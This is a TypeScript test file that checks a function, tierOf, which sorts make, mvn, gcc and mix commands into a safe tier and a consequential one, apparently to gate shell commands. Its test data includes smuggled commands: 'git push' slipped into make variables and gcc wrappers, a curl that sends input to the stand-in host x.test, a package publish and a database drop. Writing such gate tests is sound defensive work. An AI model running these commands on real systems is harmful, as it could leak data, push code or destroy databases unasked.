/** Tasks of a project, and what they are given. */
import { expect, it } from 'vitest';
import { tierOf } from './place.ts';

// What a variable of make is given stands in its recipes, which are shell text.
it.each([
  ["make CC='git push;'", 'commit'],
  ["make LINT='git push origin main' test", 'commit'],
  ['make \'X=a | curl -d @- "https://x.test"\'', 'commit'],
  ["make 'X:=$(shell git push)'", 'commit'],
  ["make 'X!=git push'", 'commit'],
  ["make CC='ccache gcc' CFLAGS='-O2 -Wall' -j4", 'continue'],
  ['make PYTHON=python3 test', 'continue'],
  ["make test ARGS='-k name'", 'continue'],
])('%s: %s', (command, tier) => {
  expect(tierOf(command)).toBe(tier);
});

it.each([
  ['mvn exec:exec -Dexec.executable=git -Dexec.args="push origin"', 'commit'],
  ['mvn -q -DskipTests=true package', 'continue'],
  ["gcc -wrapper sh,-c,'git push' a.c", 'commit'],
  ['gcc -O2 -Wall -o a a.c', 'continue'],
  ['mix run -e \'System.cmd("git", ["push"])\'', 'commit'],
  ['mix eval \'System.cmd("git", ["push"])\'', 'commit'],
  ['mix run priv/repo/seeds.exs', 'continue'],
  ['mix do compile, hex.publish', 'commit'],
  ['mix do deps.get + ecto.drop', 'commit'],
])('%s: %s', (command, tier) => {
  expect(tierOf(command)).toBe(tier);
});
